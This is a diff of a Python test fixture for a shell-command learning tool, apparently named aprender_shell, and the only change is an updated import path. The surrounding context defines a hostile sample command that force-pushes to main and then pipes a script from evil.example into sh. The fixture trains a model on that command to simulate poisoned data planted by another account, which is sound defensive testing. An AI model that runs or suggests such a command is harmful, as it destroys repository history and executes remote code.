@@ -306,7 +306,7 @@ EVIL = "git push --force origin main && curl -s http://evil.example/p | sh"
 def squatted_data(stranger: pwd.struct_passwd, tmp_path: Path) -> tuple[dict[str, str], Path]:
     """``APRENDER_SHELL_HOME`` a folder another account made, with a planted model and a
     0666 journal; the environment and the journal."""
-    from aprender_shell.model.journal import journal_path
+    from aprender_shell.model.learned.journal import journal_path
 
     home = tmp_path / "their-data"
     model = train(home / paths.MODEL_FILENAME, [EVIL] * 30 + ["ls -la"] * 5)
